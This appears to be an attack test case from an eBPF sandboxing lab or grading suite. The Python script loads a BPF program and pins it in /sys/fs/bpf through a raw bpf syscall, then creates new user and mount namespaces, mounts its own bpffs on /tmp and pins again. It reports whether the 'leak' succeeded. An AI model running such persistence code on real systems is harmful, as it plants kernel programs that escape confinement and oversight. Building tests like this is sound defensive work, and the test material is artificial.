# attack: Pins its program in every bpffs that it can reach or mount.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("directory_create.c")))

import ctypes
import os
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
fd = next(iter(b.funcs.values())).fd


def pin(place):
    path = ctypes.create_string_buffer(f"{place}/labebpf-attack".encode())
    attribute = struct.pack("QI", ctypes.addressof(path), fd).ljust(24, b"\0")
    return libc.syscall(321, 6, ctypes.c_char_p(attribute), 24)


print("LEAK pinned" if pin("/sys/fs/bpf") == 0 else "refused", flush=True)
libc.unshare(0x10000000 | 0x00020000)
print(libc.mount(b"bpf", b"/tmp", b"bpf", 0, None), pin("/tmp"), flush=True)
time.sleep(600)
